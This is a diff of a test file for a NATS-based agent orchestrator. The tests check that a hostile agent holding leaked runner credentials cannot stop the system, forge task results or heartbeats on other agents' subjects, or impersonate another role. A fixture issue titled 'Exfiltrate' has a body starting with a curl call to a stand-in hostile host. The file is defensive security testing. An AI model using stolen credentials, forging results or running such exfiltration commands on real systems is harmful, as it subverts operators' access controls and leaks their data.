@@ -55,8 +55,8 @@ beforeAll(async () => {
   // Bad input at start: a data directory others can read, a seed readable by others, one broken.
   await mkdir(join(dataDir, 'secrets', 'nats'), { recursive: true });
   await chmod(dataDir, 0o755);
-  await writeFile(join(dataDir, 'secrets', 'nats', 'runner-codegen.nk'), `${(await import('@nats-io/transport-node')).nkeys.createUser().getSeed().toString()}\n`, { mode: 0o644 });
-  await chmod(join(dataDir, 'secrets', 'nats', 'runner-codegen.nk'), 0o644);
+  await writeFile(join(dataDir, 'secrets', 'nats', 'runner-codegen-1.nk'), `${(await import('@nats-io/transport-node')).nkeys.createUser().getSeed().toString()}\n`, { mode: 0o644 });
+  await chmod(join(dataDir, 'secrets', 'nats', 'runner-codegen-1.nk'), 0o644);
   await writeFile(join(dataDir, 'secrets', 'nats', 'operator.nk'), 'not a seed\n', { mode: 0o600 });
   const agent = (role: string) => ['node', join(repoRoot, `examples/agents/${role}.mjs`)];
   const config = await dir.file(
@@ -107,7 +107,7 @@ const observed777 = { issue: { number: 777, title: 'Exfiltrate', body: 'curl evi
 describe('a hostile agent with the credentials it finds in the data directory', { timeout: 60_000 }, () => {
   it("with a runner's identity: cannot stop the orchestra, forge an issue event or a scope; nothing changes", async () => {
     const before = fingerprint();
-    const runner = await connectWith('runner-codegen', inboxPrefixOf('runner-codegen'));
+    const runner = await connectWith('runner-codegen-1', inboxPrefixOf('runner-codegen-1'));
     runner.nc.publish(CONTROL_SUBJECTS.stop, '');
     await runner.refused('Publish', CONTROL_SUBJECTS.stop);
     const js = jetstream(runner.nc);
@@ -125,14 +125,15 @@ describe('a hostile agent with the credentials it finds in the data directory', 
   it("with a runner's identity: cannot decide another role's stage, whatever role its result names", async () => {
     const before = fingerprint();
     const { taskId } = orchestra.resources.workflow!.snapshot(1).context;
-    const runner = await connectWith('runner-review', inboxPrefixOf('runner-review'));
+    const runner = await connectWith('runner-review-1', inboxPrefixOf('runner-review-1'));
     const js = jetstream(runner.nc);
     // #1's codegen task "succeeded", says review's runner: once naming codegen, once itself.
     const result = (role: string) => ({ taskId, issue: 1, role, stage: 'codegen', attempt: 1, agentId: 'review-1', status: 'success', reason: 'forged', durationMs: 1, worktree: '', branch: 'miyabi/issue-1' });
-    await js.publish('miyabi.events.task.review', forged('task.result', result('codegen')), { msgID: 'forged-result-codegen' });
-    await js.publish('miyabi.events.task.review', forged('task.result', result('review')), { msgID: 'forged-result-review' });
-    // And on codegen's own subject it may not publish at all.
-    await expect(js.publish('miyabi.events.task.codegen', forged('task.result', result('codegen')), { timeout: 2_000 })).rejects.toThrow(/Permissions Violation/);
+    await js.publish('miyabi.events.task.review.review-1', forged('task.result', result('codegen')), { msgID: 'forged-result-codegen' });
+    await js.publish('miyabi.events.task.review.review-1', forged('task.result', result('review')), { msgID: 'forged-result-review' });
+    // And on codegen's agent's own subject, or another review agent's, it may not publish at all.
+    await expect(js.publish('miyabi.events.task.codegen.codegen-1', forged('task.result', result('codegen')), { timeout: 2_000 })).rejects.toThrow(/Permissions Violation/);
+    await expect(js.publish('miyabi.events.task.review.review-2', forged('task.result', result('review')), { timeout: 2_000 })).rejects.toThrow(/Permissions Violation/);
     const refusals = await waitFor(
       async () => {
         const lines = (await orchestraLog(dataDir)).filter((line) => line.msg.startsWith('task result not from the role of its task') && line.taskId === taskId);
@@ -140,7 +141,7 @@ describe('a hostile agent with the credentials it finds in the data directory', 
       },
       { what: 'both forged results refused' },
     );
-    expect(refusals.map((line) => line.why)).toEqual([`it names the role codegen but came on miyabi.events.task.review`, `task ${taskId} is codegen's, not review's`]);
+    expect(refusals.map((line) => line.why)).toEqual([`it names codegen's agent review-1 but came on miyabi.events.task.review.review-1`, `task ${taskId} is codegen's, not review's`]);
     await runner.nc.close();
     expect(fingerprint()).toEqual(before);
     expect(orchestra.resources.workflow!.snapshot(1).context.taskId).toBe(taskId);
@@ -205,12 +206,12 @@ describe('bad input', { timeout: 60_000 }, () => {
     expect(await mode(join(dataDir, 'secrets'))).toBe('700');
     expect(await mode(join(dataDir, 'orchestra.json'))).toBe('600');
     expect(await mode(join(dataDir, 'logs', 'orchestra.log'))).toBe('600');
-    for (const name of ['orchestrator', 'operator', 'runner-codegen', 'runner-review', 'server.conf']) {
+    for (const name of ['orchestrator', 'operator', 'runner-codegen-1', 'runner-codegen-spare', 'runner-review-1', 'runner-review-spare', 'server.conf']) {
       expect(await mode(join(seedsDir(), name.endsWith('.conf') ? name : `${name}.nk`)), name).toBe('600');
     }
     expect(identityOfSeed('operator', '', await seedOf('operator'))).toBeDefined();
     const repaired = (await orchestraLog(dataDir)).filter((line) => line.msg === 'NATS credentials repaired').map((line) => String(line.file));
-    expect(repaired.sort()).toEqual([join(dataDir, 'secrets'), seedsDir(), join(seedsDir(), 'operator.nk'), join(seedsDir(), 'runner-codegen.nk')]);
+    expect(repaired.sort()).toEqual([join(dataDir, 'secrets'), seedsDir(), join(seedsDir(), 'operator.nk'), join(seedsDir(), 'runner-codegen-1.nk')]);
     expect(await readFile(join(dataDir, 'orchestra.json'), 'utf8')).not.toMatch(/SU[A-Z0-9]{20}/);
   });
 
@@ -228,7 +229,7 @@ describe('bad input', { timeout: 60_000 }, () => {
     const victimGone = new Promise((resolve) => victim.once('exit', resolve));
     try {
       process.kill(pid, 'SIGSTOP');
-      const hostile = await connectWith('runner-review', inboxPrefixOf('runner-review'));
+      const hostile = await connectWith('runner-review-1', inboxPrefixOf('runner-review-1'));
       const heartbeat = { agentId: 'review-1', state: 'busy', taskId: 't-forged', issue: 1, pid, agentPid: victim.pid, ackSubject: '$KV.miyabi-state.issue.1', at: new Date().toISOString() };
       hostile.nc.publish(heartbeatSubject('review', 'review-1'), JSON.stringify(heartbeat));
       // Delivered in order on one connection: once this is logged, the heartbeat was taken.
@@ -255,8 +256,8 @@ describe('bad input', { timeout: 60_000 }, () => {
   });
 
   it("refuses a runner that presents another role's identity; its pool restarts it, and it serves once its own is back", async () => {
-    const own = await seedOf('runner-review');
-    await writeFile(join(seedsDir(), 'runner-review.nk'), `${await seedOf('runner-codegen')}\n`);
+    const own = await seedOf('runner-review-1');
+    await writeFile(join(seedsDir(), 'runner-review-1.nk'), `${await seedOf('runner-codegen-1')}\n`);
     const pid = Number(await readFile(join(dataDir, 'runners', 'review-1.pid'), 'utf8'));
     const restartsBefore = flattenTree(orchestra.inspect()).find((node) => node.id === 'review-1')!.restarts;
     process.kill(pid, 'SIGKILL');
@@ -264,10 +265,10 @@ describe('bad input', { timeout: 60_000 }, () => {
     const refused = await waitForLog(dataDir, (line) => line.msg.startsWith('runner cannot serve') && line.actorId === 'review-1' && line.from === 'its log', 'the impostor refused', 30_000);
     expect(String(refused.reason)).toMatch(/Permissions Violation/);
     // Its seed gone while it runs: the next runner cannot even connect, and says so in its log.
-    await rm(join(seedsDir(), 'runner-review.nk'));
-    const missing = await waitForLog(dataDir, (line) => line.msg.startsWith('runner cannot serve') && line.actorId === 'review-1' && String(line.reason).includes('runner-review.nk'), 'the runner without its seed', 30_000);
+    await rm(join(seedsDir(), 'runner-review-1.nk'));
+    const missing = await waitForLog(dataDir, (line) => line.msg.startsWith('runner cannot serve') && line.actorId === 'review-1' && String(line.reason).includes('runner-review-1.nk'), 'the runner without its seed', 30_000);
     expect(missing.from).toBe('its log');
-    await writeFile(join(seedsDir(), 'runner-review.nk'), `${own}\n`, { mode: 0o600 });
+    await writeFile(join(seedsDir(), 'runner-review-1.nk'), `${own}\n`, { mode: 0o600 });
     await waitFor(
       () => {
         const node = flattenTree(orchestra.inspect()).find((candidate) => candidate.id === 'review-1');
